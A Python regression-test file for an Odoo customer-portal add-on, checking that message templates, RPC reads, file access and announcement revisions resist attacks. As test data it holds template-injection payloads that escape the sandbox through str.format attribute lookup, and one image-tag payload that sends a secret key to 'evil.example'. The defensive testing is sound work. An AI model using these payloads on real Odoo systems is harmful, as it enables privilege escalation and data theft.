"""Ways into messages and announcements that an attacker found; every test failed before its fix."""

from odoo.exceptions import UserError, ValidationError
from odoo.fields import Command
from odoo.service.model import call_kw
from odoo.tests import tagged
from odoo.tools import mute_logger

from .common import PortalCase
from .message_common import MessageFixture

COPY = "kundenportal.message.recipient"


class MessageAttackCase(MessageFixture, PortalCase):
    """Remote calls of customers and staff."""

    @classmethod
    def _extend_portal_fixture(cls):
        result = super()._extend_portal_fixture()
        cls.editor = cls.manager
        cls.editor.group_ids += cls.env.ref("mail.group_mail_template_editor")
        return result

    def call(self, user, model, name, *args, **kwargs):
        """Call a method as JSON-RPC does."""
        self.env.flush_all()
        self.env.invalidate_all()
        with self.env.cr.savepoint():
            return call_kw(self.env[model].with_user(user), name, list(args), kwargs)

    def upload(self, **values):
        files = self.env["ir.attachment"].with_user(self.officer)
        file = files.create({"name": "plan.txt", "raw": b"plan", "public": True, **values})
        file.generate_access_token()
        return file


@tagged("post_install", "-at_install")
class TestPlaceholderFormats(MessageAttackCase):
    """``str.format`` reads attributes by names that no check of words sees, as superuser, too."""

    def test_formats_leave_the_senders_rights(self):
        for expression in (
            "('{0.e' + 'nv.user.company_id.partner_id.id}').format(object)",
            "'{0.\\x65nv.user.company_id.partner_id.id}'.format(object)",
            "'{o.\\x65nv}'.format_map({'o': object})",
            "'{0.\\x5f\\x5fclass\\x5f\\x5f}'.format(object)",
        ):
            for values in (
                {"subject": "x {{ " + expression + " }}", "body": "<p>x</p>"},
                {"subject": "x", "body": f'<p><t t-out="{expression}"/></p>'},
            ):
                with self.subTest(values=values):
                    with self.assertRaises(ValidationError):
                        self.env["kundenportal.message"].with_user(self.editor).create(values)
                    # Written before such words were refused.
                    copy = self._send_message(self.user, author=self.editor)
                    self.env.flush_all()
                    self.env.cr.execute(
                        "UPDATE kundenportal_message SET subject = %s, body = %s,"
                        " has_placeholders = TRUE WHERE id = %s",
                        [values["subject"], values["body"], copy.message_id.id],
                    )
                    self.env.invalidate_all()
                    self.assertTrue(copy.with_user(self.user.user_ids)._get_content()["is_failed"])


@tagged("post_install", "-at_install")
class TestRemoteReading(MessageAttackCase):
    """What customers get by RPC beside the page."""

    def test_names_tell_nothing_of_what_stands_in_placeholders(self):
        subject = "Offer {{ object.email.upper() or 'BADPAYER' }}"
        copy = self._send_message(self.user, author=self.editor, subject=subject)
        for name, args in (
            ("read", [copy.ids, ["message_id", "display_name"]]),
            ("web_search_read", [[], {"message_id": {"fields": {"display_name": {}}}}]),
            ("name_search", []),
            ("formatted_read_group", [[], ["message_id"], ["__count"]]),
            ("web_read_group", [[], ["message_id"], ["__count"]]),
        ):
            with self.subTest(name=name):
                shown = str(self.call(self.user.user_ids, COPY, name, *args))
                self.assertIn("Offer", shown)
                self.assertNotIn("BADPAYER", shown)
        self.assertEqual(copy.message_id.with_user(self.officer).display_name, subject)

    def test_conditions_tell_nothing_of_what_is_hidden(self):
        """Held before, too."""
        copy = self._send_message(self.user, body="<p>Hidden needle</p>")
        copy.with_user(self.user.user_ids)._mark_read()
        for domain in (
            [("message_id.body", "ilike", "needle")],
            [("message_id", "any", [("body", "ilike", "needle")])],
            [("message_id", "any!", [("body", "ilike", "needle")])],
            [("author_id.login", "=", self.officer.login)],
            [("author_id", "any!", [("login", "=", self.officer.login)])],
            [("reading_ids.partner_id", "=", self.user.id)],
            [("reply_ids.body", "ilike", "x")],
            [("partner_id.portal_grant_key", "!=", False)],
        ):
            with self.subTest(domain=domain), mute_logger("odoo.addons.base.models.ir_rule"):
                try:
                    self.assertFalse(self.call(self.user.user_ids, COPY, "search", domain))
                except (UserError, ValueError):
                    continue


@tagged("post_install", "-at_install")
class TestStaffForges(MessageAttackCase):
    """What staff could bring about by RPC."""

    def test_what_follows_from_the_text_is_nobodys_to_write(self):
        message = self.env["kundenportal.message"].with_user(self.officer)
        message = message.create({"subject": "{{ object.name }}"})
        for values in ({"has_placeholders": False}, {"is_mass": True}):
            with self.subTest(values=values), self.assertRaises(UserError):
                self.call(self.officer, message._name, "write", message.ids, values)

    def test_no_other_way_to_files(self):
        """A public file, or the token of an earlier share, opens it to anybody."""
        copy = self._send_message(self.user, attachment_ids=[Command.set(self.upload().ids)])
        answer = self.env["kundenportal.message.reply"].with_user(self.officer)
        answer = answer._answer(copy.with_user(self.officer), "Answer", self.upload())
        of_contact = self.upload(res_model="res.partner", res_id=self.user.id, public=False)
        other = self._send_message(self.user, attachment_ids=[Command.set(of_contact.ids)])
        for file in (
            copy.message_id.attachment_ids,
            other.message_id.attachment_ids,
            answer.sudo().attachment_ids,
        ):
            self.assertEqual((file.name, file.raw), ("plan.txt", b"plan"))
            self.assertFalse(file.public)
            self.assertFalse(file.access_token)
        self.assertTrue(of_contact.access_token, "the other record's own")

    def test_preview_carries_nothing_away(self):
        """A picture's address would take to its author what only who previews may read."""
        self.user.portal_grant_key = "s3cret"
        picture = '<p><img t-attf-src="https://evil.example/{{ object.portal_grant_key }}"/></p>'
        message = self.env["kundenportal.message"].with_user(self.editor)
        message = message.create({"subject": "x", "body": picture})
        admin = self.env.ref("base.user_admin")
        admin.group_ids += self.env.ref("kundenportal_addon.group_officer")
        preview = self.env["kundenportal.message.preview"].with_user(admin)
        preview = preview.create({"message_id": message.id, "partner_id": self.user.id})
        self.assertIn("<img", preview.body)
        self.assertNotIn("evil.example", preview.body)


@tagged("post_install", "-at_install")
class TestAnnouncementsWithdrawn(MessageAttackCase):
    """Withdrawing is no way past revisions and mails."""

    @classmethod
    def _extend_portal_fixture(cls):
        result = super()._extend_portal_fixture()
        cls.company.portal_default_function_ids |= cls.functions["announcements"]
        return result

    def announce(self, **values):
        announcement = self.env["kundenportal.announcement"].with_user(self.officer)
        announcement = announcement.create({"title": "Closed", "body": "<p>x</p>", **values})
        announcement.action_publish()
        return announcement

    def queue(self, announcement):
        while announcement.with_user(1)._queue_mail_batch():
            pass
        receipts = self.env["kundenportal.announcement.receipt"].search(
            [("announcement_id", "=", announcement.id), ("partner_id", "=", self.user.id)]
        )
        return self.env["mail.mail"].search_count(
            [("model", "=", receipts._name), ("res_id", "in", receipts.ids)]
        )

    def test_withdrawn_changed_and_published_is_a_new_revision(self):
        """Whoever closed the first text would never have seen the second."""
        announcement = self.announce()
        announcement.action_withdraw()
        announcement.title = "Open after all"
        announcement.action_publish()
        self.assertEqual(announcement.revision, 2)

    def test_cancelled_mails_go_out_once_it_is_published_again(self):
        announcement = self.announce(by_mail=True)
        self.assertEqual(self.queue(announcement), 1)
        announcement.action_withdraw()
        self.assertEqual(self.queue(announcement), 0)
        announcement.action_publish()
        self.assertEqual(self.queue(announcement), 1)
        announcement.action_publish()
        self.assertEqual(self.queue(announcement), 1)


@tagged("post_install", "-at_install")
class TestWhatStaysAsItWas(MessageAttackCase):
    """What staff could change by remote calls after it was sent or shown."""

    def test_files_of_a_sent_message_stay(self):
        """What was sent stays, and so do its files."""
        copy = self._send_message(self.user, attachment_ids=[Command.set(self.upload().ids)])
        own = copy.message_id.attachment_ids
        for name, args in (
            ("write", [{"datas": "c2Vjb25k"}]),
            ("write", [{"public": True}]),
            ("write", [{"res_model": False, "res_id": 0}]),
            ("unlink", []),
        ):
            with self.subTest(name=name, args=args), self.assertRaises(UserError):
                self.call(self.officer, "ir.attachment", name, own.ids, *args)

    def test_officers_do_not_write_what_the_portal_keeps(self):
        """Publishing by write would leave no protocol entry, and revisions would jump."""
        announcement = self.env["kundenportal.announcement"].with_user(self.officer)
        announcement = announcement.create({"title": "T", "body": "<p>x</p>"})
        for vals in ({"revision": 99}, {"mailed_revision": 99}, {"is_published": True}):
            with self.subTest(vals=vals), self.assertRaises(UserError):
                self.call(self.officer, announcement._name, "write", announcement.ids, vals)
